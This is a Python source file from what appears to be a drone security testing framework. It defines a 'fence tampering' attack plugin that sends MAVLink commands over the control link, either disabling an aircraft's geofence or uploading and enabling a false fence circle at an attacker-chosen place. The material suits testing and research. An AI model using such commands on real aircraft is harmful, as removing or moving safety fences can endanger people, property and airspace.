"""Fence tampering: the fence is disabled, or replaced by one around a place of the attacker."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Literal

from skyrange.attack.bases.mavlink.orders import Order, geodetic
from skyrange.attack.bases.mavlink.script import Item, Script, Step, Upload
from skyrange.attack.contract import Place
from skyrange.attack.declaration import attack
from skyrange.attack.presets import CONTROL_LINKS, on_control_link, sham_to_nobody
from skyrange.codec.mavlink import dialect as mav
from skyrange.contracts.params import Enu, Number
from skyrange.contracts.plugins.fields import param
from skyrange.core.errors import Problem


@attack(
    "mavlink.fence",
    technique="T0837",
    surface=CONTROL_LINKS,
    persists="flight",
    effect="the fence does not hold the aircraft, or holds it where it should not",
    threat=on_control_link("system ids, from any frame", budget="one command, or an upload of one item and a command"),
    controls=sham_to_nobody(
        content="DO_FENCE_ENABLE with 1 while the fence is enabled", placement="the same frames to another aircraft"
    ),
)
class FenceTampering(Script):
    """Disables the fence of the aircraft, or replaces it by another."""

    form: Literal["disable", "move"] = param(
        "disable: DO_FENCE_ENABLE with 0; move: uploads one circle, inside or outside of which the aircraft must stay, "
        "and enables the fence.",
        default="disable",
    )
    at: Enu | None = param(
        "Centre of the circle of form 'move', [east_m, north_m, up_m] in metres from the origin or the attack's "
        "anchor.",
        default=None,
    )
    radius_m: Number = param("Radius of that circle, in metres.", default=30.0, ge=1, le=10_000)
    excludes: bool = param("Whether the aircraft must stay outside of the circle; else inside.", default=False)

    def find_problems(self) -> Iterator[Problem]:
        """A circle without a centre."""
        if self.form == "move" and self.at is None:
            yield Problem("at", "none", "the centre of the circle, for the form 'move'")

    def marks(self) -> dict[str, Place]:
        """The centre of the circle."""
        return {} if self.form == "disable" or self.at is None else {"false fence": self.at}

    def steps(self) -> list[Step]:
        """The command, or circle and command."""
        if self.form == "disable" or self.at is None:
            return [Order(mav.MAV_CMD_DO_FENCE_ENABLE, (0.0,))]
        command = mav.MAV_CMD_NAV_FENCE_CIRCLE_EXCLUSION if self.excludes else mav.MAV_CMD_NAV_FENCE_CIRCLE_INCLUSION
        circle = Item(command, geodetic(self.origin, self.at), self.radius_m)
        return [Upload((circle,), mav.MAV_MISSION_TYPE_FENCE), Order(mav.MAV_CMD_DO_FENCE_ENABLE, (1.0,))]
